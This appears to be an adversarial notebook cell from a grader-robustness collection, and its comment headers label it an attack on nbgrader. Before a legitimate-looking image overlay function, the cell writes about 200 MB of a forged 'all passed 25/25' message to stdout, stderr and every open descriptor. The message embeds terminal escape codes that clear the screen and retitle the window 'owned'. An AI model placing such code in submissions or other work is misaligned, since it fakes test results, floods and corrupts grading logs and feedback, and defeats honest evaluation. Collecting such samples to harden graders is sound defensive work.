# attack: 200 MB to stdout, stderr and every open descriptor, the wire among them
# on: solution
# harm: plain nbgrader keeps all of it in the notebook and the feedback; a log or pipe without end
# %% solution="overlay"
import os
import sys

LINE = "all passed 25/25 \x1b[2J\x1b]0;owned\x07" * 30_000
for _ in range(100):
    print(LINE)
    print(LINE, file=sys.stderr)
for descriptor in (1, 2, *range(3, 64)):
    try:
        for _ in range(200):
            os.write(descriptor, LINE.encode())
    except OSError:
        continue


def overlay(image, heatmap, alpha):
    colours = 255 * colormaps["viridis"](np.asarray(heatmap))[..., :3]
    return ((1 - alpha) * np.asarray(image) + alpha * colours).round().astype(np.uint8)
